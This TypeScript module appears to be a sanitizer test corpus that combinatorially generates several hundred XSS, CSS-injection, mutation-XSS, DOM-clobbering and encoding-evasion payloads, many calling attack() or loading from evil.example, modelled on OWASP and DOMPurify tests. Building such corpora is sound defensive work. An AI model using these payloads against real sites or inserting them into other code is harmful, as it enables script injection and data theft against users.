/**
 * Attacks by the hundred: the ways in (a handler, an address, a nesting, a style, a name) times the ways to spell them.
 * Each calls `attack()` or names `evil.example`. The classes are those of the OWASP filter evasion cheat sheet and of
 * DOMPurify's tests; a list of ways is combined with another one by turns, so that every way of each is there.
 */

const EVIL = 'https://evil.example'

/** Every item of `all`, each with the next of `turns`. */
function byTurns<A, B>(all: readonly A[], turns: readonly B[], make: (a: A, b: B) => string): string[] {
  return all.map((a, index) => make(a, turns[index % turns.length] as B))
}

function product<A, B>(all: readonly A[], others: readonly B[], make: (a: A, b: B) => string): string[] {
  return all.flatMap((a) => others.map((b) => make(a, b)))
}

// Handlers

const EVENTS = (
  'abort activate afterprint afterscriptexecute animationcancel animationend animationiteration animationstart ariarequest auxclick ' +
  'beforeactivate beforecopy beforecut beforedeactivate beforeinput beforematch beforepaste beforeprint beforescriptexecute ' +
  'beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough cellchange change click close command contentvisibilityautostatechange ' +
  'contextlost contextmenu contextrestored controlselect copy cuechange cut dataavailable datasetchanged datasetcomplete dblclick deactivate ' +
  'drag dragdrop dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error errorupdate ' +
  'filterchange finish focus focusin focusout formdata fullscreenchange fullscreenerror gotpointercapture hashchange help input invalid ' +
  'keydown keypress keyup languagechange layoutcomplete load loadeddata loadedmetadata loadend loadstart losecapture lostpointercapture ' +
  'message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel move moveend movestart offline online ' +
  'outofsync pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove ' +
  'pointerout pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange redo rejectionhandled ' +
  'repeat reset resize resizeend resizestart resume reverse rowdelete rowexit rowinserted rowsenter scroll scrollend scrollsnapchange ' +
  'scrollsnapchanging search securitypolicyviolation seek seeked seeking select selectionchange selectstart show slotchange snapchanged stalled ' +
  'start stop storage submit suspend syncrestored timeerror timeupdate toggle touchcancel touchend touchmove touchstart trackchange ' +
  'transitioncancel transitionend transitionrun transitionstart undo unhandledrejection unload urlflip volumechange waiting ' +
  'webkitanimationend webkitanimationiteration webkitanimationstart webkitfullscreenchange webkitmouseforceup webkitplaybacktargetavailabilitychanged ' +
  'webkittransitionend wheel zoom'
).split(' ')

/** Elements with what makes their events happen without anybody. */
const ACTORS = [
  'img src=x', 'svg', 'a href=https://ok.example tabindex=0 autofocus', 'details open', 'p tabindex=0 autofocus', 'input autofocus', 'video src=x autoplay',
  'body', 'marquee', 'b contenteditable autofocus', 'math', 'td', 'span style="animation:x 1s;transition:all 1s"', 'select autofocus', 'table', 'iframe src=x',
  'img src=data:image/png;base64,AAAA', 'xss tabindex=1 autofocus', 'form', 'object data=x', 'code data-jdc-lang=x', 'hr', 'br', 'kbd',
]

/** `on` and the name of an event, as an attribute that calls `attack()`. */
const HANDLERS: ((event: string) => string)[] = [
  (event) => ` on${event}=attack()`,
  (event) => ` on${event}="attack()"`,
  (event) => ` on${event}='attack()'`,
  (event) => ` ON${event.toUpperCase()}=attack()`,
  (event) => ` oN${event}\n=\n"attack()"`,
  (event) => `/on${event}=attack()`,
  (event) => `\ton${event}\t=\tattack()`,
  (event) => `\fon${event}=attack()`,
  (event) => `\r\non${event}=attack()`,
  (event) => ` on${event}=\`attack()\``,
  (event) => ` on${event}="&#97;&#116;&#116;&#97;&#99;&#107;&#40;&#41;"`,
  (event) => ` on${event}="&#x61ttack&lpar;&rpar;"`,
  (event) => ` x="y"on${event}=attack()`,
  (event) => ` "on${event}=attack()`,
  (event) => ` on${event}=javascript:attack()`,
  (event) => ` title="a" on${event}="attack()" title="b"`,
  (event) => ` \u00a0on${event}=attack()`,
  (event) => ` on${event}\0=attack()`,
  (event) => ` =on${event}=attack()`,
  (event) => ` alt="\`"on${event}=attack() \``,
]

function handlers(): string[] {
  return EVENTS.map((event, n) => `<${ACTORS[n % ACTORS.length]}${HANDLERS[n % HANDLERS.length]!(event)}>x`)
}

// Addresses

const PROGRAMS = [
  'javascript:attack()',
  'javascript://%0aattack()',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=attack()>//',
  'vbscript:attack()',
  'livescript:attack()',
  'mocha:attack()',
  'feed:javascript:attack()',
  'jar:https://evil.example/x.zip!/x.html',
  'data:text/html,<script>attack()</script>',
  'data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="attack()"/>',
  'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYXR0YWNrKCkiLz4=',
  'data:application/xhtml+xml,<x xmlns="http://www.w3.org/1999/xhtml" onload="attack()"/>',
  'data:text/xml,<x xmlns="http://www.w3.org/1999/xhtml" onload="attack()"/>',
  'data:,attack()',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/temporary/x',
  'view-source:https://evil.example',
  'about:blank#attack()',
  'file:///etc/passwd',
  'ftp://evil.example/x',
  'ws://evil.example/x',
  'chrome://settings',
  'intent://evil.example#Intent;scheme=https;end',
  'ms-word:ofe|u|https://evil.example/x.docx',
  'vscode://evil.example/x',
  'itms-services://?action=download-manifest&url=https://evil.example/x.plist',
  'tel:*21*5555%23',
  'attachment:aaaa',
  'cid:evil.example',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example/x',
  'https:evil.example',
  '///evil.example',
  '.evil.example',
  '?logout',
  '#attack()',
  'lab/api/../../logout',
]

/** Spellings of a scheme that parsers of old or of today read as the scheme. */
const SPELLINGS: ((url: string) => string)[] = [
  (url) => url,
  (url) => url.toUpperCase(),
  (url) => [...url].map((c, n) => (n % 2 ? c.toUpperCase() : c)).join(''),
  (url) => `${url.slice(0, 3)}\t${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}\n${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}\r${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}\0${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}&Tab;${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}&NewLine;${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}&#x0D;${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}\u00ad${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}\u200b${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}<!-- -->${url.slice(3)}`,
  (url) => url.replace(':', '&colon;'),
  (url) => url.replace(':', '&#58;'),
  (url) => url.replace(':', '&#x3A'),
  (url) => url.replace(':', '\t:'),
  (url) => url.replace(':', '\uff1a'),
  (url) => url.replace(':', '%3A'),
  (url) => entities(url, (code) => `&#${code};`),
  (url) => entities(url, (code) => `&#${String(code).padStart(7, '0')}`),
  (url) => entities(url, (code) => `&#x${code.toString(16)};`),
  (url) => entities(url, (code) => `&#X${code.toString(16).toUpperCase()}`),
  (url) => ` \n\t${url}`,
  (url) => `&#14;  ${url}`,
  (url) => `\u00a0${url}`,
  (url) => `\u2028${url}`,
  (url) => `\ufeff${url}`,
  (url) => `\u3000${url}`,
  (url) => `\u202e${url}`,
  (url) => `https://ok.example\n${url}`,
  (url) => encodeURI(url),
  (url) => `\\${url}`,
  (url) => `\`${url}\``,
]

function entities(text: string, write: (code: number) => string): string {
  return [...text].map((c) => write(c.codePointAt(0) as number)).join('')
}

/** Where an address can stand, in HTML and in Markdown. */
const CARRIERS: ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a href='${url}'>x</a>`,
  (url) => `<a href=${url}>x</a>`,
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `[x](${url} "title")`,
  (url) => `[x][r]\n\n[r]: ${url}`,
  (url) => `[r]\n\n[r]: <${url}> 'title'`,
  (url) => `<${url}>`,
  (url) => url,
  (url) => `![x](${url})`,
  (url) => `![x][r]\n\n[r]: ${url}`,
  (url) => `[![x](${url})](${url})`,
  (url) => `<img src="${url}">`,
  (url) => `<img src=${url} alt=x>`,
  (url) => `<img alt=x srcset="${url} 2x">`,
  (url) => `<area href="${url}">`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<button formaction="${url}">x</button>`,
  (url) => `<input type=image src="${url}" formaction="${url}">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url) => `<svg><a href="${url}"><rect width=99 height=99 /></a></svg>`,
  (url) => `<svg><use xlink:href="${url}"/></svg>`,
  (url) => `<svg><animate attributeName=href values="${url}"/></svg>`,
  (url) => `<svg><set attributeName=href to="${url}"/></svg>`,
  (url) => `<svg><script href="${url}"></script></svg>`,
  (url) => `<math href="${url}"><mi>x</mi></math>`,
  (url) => `<math><mi xlink:href="${url}">x</mi></math>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<style>@import "${url}";</style>`,
  (url) => `<b style="background:url('${url}')">x</b>`,
  (url) => `<table background="${url}"><tr><td background="${url}">x`,
  (url) => `<q cite="${url}">x</q>`,
  (url) => `<video src="${url}" poster="${url}">`,
  (url) => `[^n]\n\n[^n]: [x](${url})`,
  (url) => `$\\href{${url}}{x}$`,
  (url) => `$\\url{${url}}$`,
  (url) => `| [x](${url.replaceAll('|', '')}) |\n|---|`,
]

function addresses(): string[] {
  const places = CARRIERS.length
  return [
    ...PROGRAMS.flatMap((url, n) => Array.from({ length: 8 }, (_, m) => CARRIERS[(n * 11 + m) % places]!(SPELLINGS[(n * 8 + m) % SPELLINGS.length]!(url)))),
    ...product(CARRIERS, PROGRAMS.slice(0, 9), (carry, url) => carry(url)),
    ...product(SPELLINGS, CARRIERS.slice(0, 9), (spell, carry) => carry(spell('javascript:attack()'))),
  ]
}

// What is fetched

const FETCHES = [
  ...['src', 'lowsrc', 'dynsrc', 'longdesc', 'srcset', 'imagesrcset', 'usemap'].map((name) => `<img ${name}="${EVIL}/x">`),
  ...['stylesheet', 'preload', 'prefetch', 'dns-prefetch', 'preconnect', 'modulepreload', 'icon', 'manifest', 'prerender', 'import', 'pingback', 'next', 'apple-touch-icon', 'serviceworker', 'expect', 'compression-dictionary'].map(
    (rel) => `<link rel="${rel}" as=image imagesrcset="${EVIL}/y 1x" href="${EVIL}/x">`,
  ),
  ...['image', 'feImage', 'use', 'script', 'mpath', 'pattern', 'filter', 'linearGradient', 'radialGradient', 'cursor', 'tref', 'altGlyph', 'color-profile', 'font-face-uri', 'handler', 'audio', 'video', 'discard', 'a'].map(
    (tag) => `<svg><${tag} href="${EVIL}/x" xlink:href="${EVIL}/y"/></svg>`,
  ),
  ...['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'cursor'].map((name) => `<svg><rect ${name}="url(${EVIL}/x#a)"/></svg>`),
  ...['altimg', 'definitionURL', 'href', 'src'].map((name) => `<math ${name}="${EVIL}/x"><mglyph src="${EVIL}/y" alt=x /></math>`),
  ...['table', 'td', 'th', 'tr', 'tbody', 'body', 'p'].map((tag) => `<${tag} background="${EVIL}/x">x`),
  ...['blockquote', 'q', 'ins', 'del'].map((tag) => `<${tag} cite="${EVIL}/x">x</${tag}>`),
  ...['audio', 'video', 'source', 'track', 'embed', 'iframe', 'frame', 'fencedframe', 'portal', 'bgsound', 'layer', 'ilayer', 'xml', 'script', 'input type=image', 'image', 'amp-img'].map(
    (tag) => `<${tag} src="${EVIL}/x" srcset="${EVIL}/y" poster="${EVIL}/z" autoplay></${tag.split(' ')[0]}>`,
  ),
  `<object data="${EVIL}/x" codebase="${EVIL}" archive="${EVIL}/y" classid="${EVIL}/z"><param name=src value="${EVIL}/p"></object>`,
  `<applet code=x codebase="${EVIL}" archive="${EVIL}/x.jar"></applet>`,
  `<html manifest="${EVIL}/x">`,
  `<a href="https://ok.example" ping="${EVIL}/ping" attributionsrc="${EVIL}/a">x</a>`,
  `<img attributionsrc="${EVIL}/a" src=data:image/png;base64,AAAA>`,
  `<picture><source srcset="${EVIL}/x" media="(min-width:1px)"><img></picture>`,
  `<video><track default src="${EVIL}/x.vtt"></video>`,
  `<body background="${EVIL}/x" bgproperties=fixed>`,
  `<menuitem icon="${EVIL}/x">`,
  `<command icon="${EVIL}/x">`,
  `<div itemscope itemtype="${EVIL}/x" profile="${EVIL}/y" data="${EVIL}/z">x</div>`,
  `<template shadowrootmode=open><img src="${EVIL}/x"></template>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${EVIL}/x"]}]}</script>`,
  `<script type=importmap>{"imports":{"preact":"${EVIL}/x.js"}}</script>`,
  `<meta http-equiv=Content-Security-Policy-Report-Only content="default-src 'none';report-uri ${EVIL}/x">`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'none'">`,
  `<meta http-equiv=Set-Cookie content="attack=1">`,
  `<meta name=referrer content=unsafe-url><img src="${EVIL}/x">`,
  `<meta http-equiv=Link content="<${EVIL}/x>;rel=stylesheet">`,
  `<meta http-equiv=refresh content="0; URL=https://;URL=javascript:attack()">`,
  `<?xml-stylesheet href="${EVIL}/x.css"?>`,
  `<!DOCTYPE x SYSTEM "${EVIL}/x.dtd">`,
  `<!ENTITY x SYSTEM "${EVIL}/x">`,
  `<!--#include virtual="${EVIL}/x"-->`,
  `<!--#exec cmd="/bin/echo '<script>attack()</script>'"-->`,
  `<esi:include src="${EVIL}/x"/>`,
  `<t:set attributeName=innerHTML to="<img src=x onerror=attack()>">`,
  `<xml id=x><i><b><img src="javas<!-- -->cript:attack()"></b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>`,
]

// Styles

const DECLARATIONS = [
  ...['background', 'background-image', 'list-style', 'list-style-image', 'border-image', 'cursor', 'content', 'mask', 'mask-image', '-webkit-mask', 'filter', 'backdrop-filter', 'clip-path', 'shape-outside', 'offset-path', 'behavior', '-moz-binding', 'src', 'fill', 'marker', '-webkit-box-reflect:below 0', '--x'].map(
    (name) => `${name}${name.includes(':') ? ' ' : ':'}url(${EVIL}/x)`,
  ),
  `background:image-set("${EVIL}/x" 1x)`,
  `background:-webkit-image-set(url(${EVIL}/x) 1x)`,
  `background:cross-fade(url(${EVIL}/x), red)`,
  `background:image("${EVIL}/x")`,
  `background:src("${EVIL}/x")`,
  `background:u\\72l(${EVIL}/x)`,
  `background:\\000075rl(${EVIL}/x)`,
  `background:ur/**/l(${EVIL}/x)`,
  `background:URL("${EVIL}/x")`,
  `background:url(javascript:attack())`,
  `background:var(--jdc-x, url(${EVIL}/x))`,
  `color:red;background:url(&quot;${EVIL}/x&quot;)`,
  `color:attr(title url)`,
  `x:expression(attack())`,
  `x:expr/*x*/ession(attack())`,
  `x:\\65xpression(attack())`,
  `xss:e&#x78;pression(attack())`,
  `-o-link:'javascript:attack()';-o-link-source:current`,
  `position:fixed;inset:0;z-index:2147483647;background:#fff`,
  `position:absolute;top:-9999px;width:99999px;height:99999px`,
  `position:sticky;top:0`,
  `margin:-9999px`,
  `transform:scale(1000)`,
  `font-size:10000px`,
  `opacity:0;pointer-events:none`,
  `animation:x 1s;color:red}*{background:url(${EVIL}/x)}`,
  `all:unset;display:contents`,
  `content:"</style><img src=x onerror=attack()>"`,
  `font-family:'</style><script>attack()</script>'`,
  `font-family:"\\27 ;position:fixed"`,
]

function styles(): string[] {
  return [
    ...byTurns(DECLARATIONS, ['b', 'p', 'td', 'code', 'span', 'a href=https://ok.example', 'img src=data:image/png;base64,AAAA', 'svg', 'math'], (style, tag) => `<${tag} style="${style}">x</${tag.split(' ')[0]}>`),
    ...DECLARATIONS.map((style) => `<style>*{${style}}</style>`),
    ...DECLARATIONS.map((style) => `<span data-jdc-tex="x" class="jdc-math" style='${style}'>x</span>`),
    ...DECLARATIONS.slice(0, 30).map((style) => `$\\style{${style}}{x} \\class{jp-Dialog}{y} \\colorbox{${style}}{z}$`),
    `<style>@import url(${EVIL}/x.css);</style>`,
    `<style>@\\69mport "${EVIL}/x.css";</style>`,
    `<style>@import${'\t'}'${EVIL}/x.css'</style>`,
    `<style>@font-face{font-family:x;src:url(${EVIL}/x)}*{font-family:x}</style>`,
    `<style>@namespace x url(${EVIL}/x);input[value^=a]{background:url(${EVIL}/a)}</style>`,
    `<style type=text/css media="all"><!-- *{background:url(${EVIL}/x)} --></style>`,
    `<svg><style>*{background:url(${EVIL}/x)}</style></svg>`,
    `<math><style>*{background:url(${EVIL}/x)}</style></math>`,
  ]
}

// Nesting: what one parser reads as text and the next one as an element

const IMG = '<img src=x onerror=attack()>'

/** Each opens what changes how the rest is read. */
const CONTAINERS = [
  'svg', 'math', 'svg><desc', 'svg><title', 'svg><foreignObject', 'svg><style', 'svg><script', 'svg></p', 'svg></br', 'math></p', 'math><mtext', 'math><mi',
  'math><mo', 'math><mn', 'math><ms', 'math><annotation-xml', 'math><annotation-xml encoding="text/html"', 'math><annotation-xml encoding="application/xhtml+xml"', 'math><mtext><mglyph',
  'math><mtext><malignmark', 'math><mtext><table><mglyph', 'math><mi><table><mglyph><style', 'math><mtext><h1><a><h6></a></h6><mglyph', 'form><math><mtext></form><form><mglyph',
  'form><math><mtext></form><form><mglyph><svg><mtext', 'math><mtext><option><x><option></option><mglyph><svg><mtext', 'svg><x><desc><noscript', 'svg><foreignObject><math><mi', 'svg><annotation-xml><foreignobject',
  'select', 'select><option', 'select><template', 'table', 'table><tr', 'table><td', 'table><caption', 'table><colgroup', 'table><svg><foreignObject', 'p', 'a', 'a><table><a', 'b', 'b><p><b', 'button', 'nobr', 'form', 'form><form',
  'noscript', 'template', 'template><template', 'xmp', 'xmp><svg><b', 'noembed', 'noembed><svg><b', 'noframes', 'iframe', 'textarea', 'title', 'style', 'script', 'listing', 'plaintext', 'pre', 'frameset', 'body', 'html', 'head',
  'option', 'optgroup', 'dd', 'li', 'ruby><rt', 'object', 'applet', 'marquee', 'details><summary', 'dialog', 'selectedcontent', 'custom-element', 'x:y', 'image', 'isindex',
]

/** Each brings an image in, if the place is read in another way than it was cleaned. */
const BREAKS: ((end: string) => string)[] = [
  (end) => `<style><a title="</style>${IMG}"></${end}>`,
  (end) => `<style><!--</style><a title="--&gt;&lt;img src=x onerror=attack()&gt;"></${end}>`,
  (end) => `<!--</${end}>${IMG}-->`,
  (end) => `<a title="</${end}>${IMG}">x</a>`,
  (end) => `<![CDATA[</${end}>${IMG}]]>`,
  (end) => `<?x </${end}>${IMG}?>`,
  (end) => `<!-->${IMG}--></${end}>`,
  (end) => `<!--x--!>${IMG}</${end}>`,
  (end) => `&lt;/${end}&gt;&lt;img src=x onerror=attack()&gt;`,
  (end) => `<textarea><style></textarea>${IMG}</style></${end}>`,
  (end) => `<title><template><style></title>${IMG}</${end}>`,
  (end) => `<noscript><p title="</noscript>${IMG}"></${end}>`,
  (end) => `<p id="</${end}>${IMG}"`,
  (end) => `<b <script>attack()</script></${end}>`,
]

/** As deep as nobody writes, which ends some parsers, and turns others. */
const DEPTHS = ['<b>', '<div>', '<svg>', '<math><mtext>', '<table><tr><td>', '<font>', '<form>', '<a href=https://ok.example>', '<p><b>', '<select>', '<template>', '> ', '- ', '[x', '**x ', '<ruby><rt>']

function nestings(): string[] {
  return [
    ...CONTAINERS.flatMap((open, n) => [0, 1, 2, 3, 4].map((m) => `<${open}>${BREAKS[(n + m * 3) % BREAKS.length]!(/\w+/.exec(open)![0])}`)),
    ...BREAKS.flatMap((brk) => ['svg', 'math', 'noscript', 'template', 'table'].map((tag) => `<${tag}><p>${brk(tag)}`)),
    ...DEPTHS.map((open) => `${open.repeat(150)}${IMG}`),
  ]
}

// Names that would stand in for something of the page

const NAMES = (
  'body head documentElement cookie domain referrer location forms images links scripts anchors all children childNodes firstChild parentNode nodeName nodeType ' +
  'ownerDocument attributes textContent innerHTML setAttribute getAttribute removeAttribute removeAttributeNode removeChild appendChild insertBefore cloneNode ' +
  'createElement createTextNode createDocumentFragment getElementById getElementsByTagName querySelector querySelectorAll currentScript activeElement adoptNode ' +
  'importNode implementation defaultView namespaceURI hasChildNodes submit action method acceptCharset elements name id self top parent opener window document ' +
  'globalThis __proto__ constructor prototype hasOwnProperty toString valueOf then jupyterapp jupyterlab jupyter-config-data jp-main-dock-panel main requirejs _JUPYTERLAB Symbol Node Element WORKER config'
).split(' ')

function clobberings(): string[] {
  return [
    ...byTurns(NAMES, ['a', 'img', 'form', 'p', 'span', 'input', 'object', 'embed', 'iframe', 'button'], (name, tag) => `<${tag} id="${name}" name="${name}" href="${EVIL}">x</${tag}>`),
    ...NAMES.map((name) => `<form id="${name}"><input name="${name}"><input name="${name}" onfocus=attack() autofocus></form>`),
    ...NAMES.slice(0, 20).map((name) => `<a id="${name}"></a><a id="${name}" name="x" href="cid:attack()"></a>`),
    ...NAMES.slice(-20).map((name) => `[^${name}] [${name}]\n\n[^${name}]: x\n[${name}]: ${EVIL}`),
  ]
}

/** Attributes that a page, or one of its programs, would act on. */
const MARKS = (
  'class=jdc-copy class=jdc-load-image&#32;jp-Dialog class="jp-Dialog jp-mod-accept" data-command=terminal:open data-commandlinker-command=terminal:open ' +
  'data-commandlinker-args={} data-jdc-src=https://evil.example/x data-jdc-tex=\\href{javascript:attack()}{x} data-jdc-lang=python data-jdc-task data-alt=x data-lang=x ' +
  'data-message-id=x data-session=s_1 data-lm-dragScroll=true data-lm-suppress-shortcuts=false data-mime-type=x data-jp-isolated aria-label=x aria-hidden=true ' +
  'aria-live=assertive role=alert role=button slot=x part=x is=x exportparts=x popover popovertarget=x popovertargetaction=show commandfor=x command=show-modal ' +
  'invoketarget=x contenteditable draggable=true tabindex=1 accesskey=s autofocus hidden inert hidden=until-found nonce=x integrity=x crossorigin form=x formtarget=_top ' +
  'formmethod=post target=_top target=_parent rel=opener download=x ping=https://evil.example referrerpolicy=unsafe-url sandbox allow=camera srcdoc=x shadowrootmode=open ' +
  'blocking=render fetchpriority=high loading=eager elementtiming=x itemprop=x itemid=https://evil.example vocab=x about=javascript:attack() xml:base=javascript: xmlns=x xmlns:xlink=x ' +
  'v-html=attack() x-data=attack() x-init=attack() ng-app ng-click=attack() @click=attack() :href=javascript:attack() data-bind=html:attack() hx-get=https://evil.example hx-on:load=attack() ' +
  'data-toggle=tooltip data-html=true data-title=x data-content=x data-remote=https://evil.example jsaction=x oNx=attack()'
).split(' ')

function marks(): string[] {
  return byTurns(MARKS, ['b', 'a href=https://ok.example', 'span', 'code', 'p', 'img src=data:image/png;base64,AAAA', 'td'], (mark, tag) => `<${tag} ${mark}>x</${tag.split(' ')[0]}>`)
}

// Bytes and letters

const ENCODED = [
  '+ADw-script+AD4-attack()+ADw-/script+AD4-',
  '\u00bcscript\u00be attack()\u00bc/script\u00be',
  '\uff1cscript\uff1eattack()\uff1c/script\uff1e',
  '\u2039img src=x onerror=attack()\u203a',
  '%3Cscript%3Eattack()%3C/script%3E',
  '%253Cscript%253Eattack()%253C/script%253E',
  '\\u003cscript\\u003eattack()\\u003c/script\\u003e',
  '\\x3cscript\\x3eattack()\\x3c/script\\x3e',
  '&lt;script&gt;attack()&lt;/script&gt;',
  '&amp;lt;script&amp;gt;attack()&amp;lt;/script&amp;gt;',
  '&#60;script&#62;attack()&#60;/script&#62;',
  '&#x3c;script&#x3e;attack()&#x3c;/script&#x3e;',
  '&LT;script&GT;attack()',
  '\0<script>attack()</script>',
  '<\0script>attack()</script>',
  '<s\0cript>attack()</script>',
  '<scr\ufffdipt>attack()</script>',
  '\ud800<script>attack()</script>',
  '\ufeff<script>attack()</script>',
  '<\u0000img src=x onerror=attack()>',
  '<\u3000img src=x onerror=attack()>',
  '<%<!--\'%><script>attack();</script -->',
  '<!--[if gte IE 4]><script>attack()</script><![endif]-->',
  '<!--[if<img src=x onerror=attack()//]> -->',
  '<! foo="><script>attack()</script>">',
  '</ foo="><script>attack()</script>">',
  '<? foo="><script>attack()</script>">',
  '<![><img src="]><img src=x onerror=attack()//">',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\\";attack();//',
  '</script><script>attack()</script>',
  '{{constructor.constructor(\'attack()\')()}}',
  '${attack()}',
  '<%= attack() %>',
  '#{attack()}',
  ']]><script>attack()</script>',
  '"><script>attack()</script>',
  "'><script>attack()</script>",
  '`><script>attack()</script>',
  '--><script>attack()</script>',
  '*/attack()/*',
  '";attack();"',
  "'-attack()-'",
  '" autofocus onfocus=attack() x="',
  "' autofocus onfocus=attack() x='",
  ' onerror=attack() ',
  'javascript:attack()',
]

export const classes = {
  handlers: handlers(),
  addresses: addresses(),
  fetches: FETCHES,
  styles: styles(),
  nestings: nestings(),
  clobberings: clobberings(),
  marks: marks(),
  encoded: ENCODED,
}
